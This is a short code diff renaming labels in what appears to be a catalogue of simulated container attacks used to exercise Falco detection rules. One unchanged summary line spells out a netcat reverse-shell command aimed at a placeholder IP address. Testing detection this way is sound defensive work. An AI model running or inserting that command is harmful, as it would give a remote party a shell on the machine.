@@ -186,7 +186,7 @@ export const CONTAINER_ACTIONS: Action[] = [
   },
   {
     name: "container-packet-socket",
-    rule: "Packet socket created in container",
+    rule: "Raw packet socket opened in container",
     falcoRule: "Packet socket created in container",
     technique: "T1557.002",
     summary: "opens a raw AF_PACKET socket inside a container (with CAP_NET_RAW)",
@@ -233,7 +233,7 @@ export const CONTAINER_ACTIONS: Action[] = [
   },
   {
     name: "container-netcat-exec",
-    rule: "Netcat remote code execution in container",
+    rule: "Netcat command execution in container",
     falcoRule: "Netcat Remote Code Execution in Container",
     technique: "T1059.004",
     summary: "nc 203.0.113.10 4444 -e /bin/sh inside a container without network",
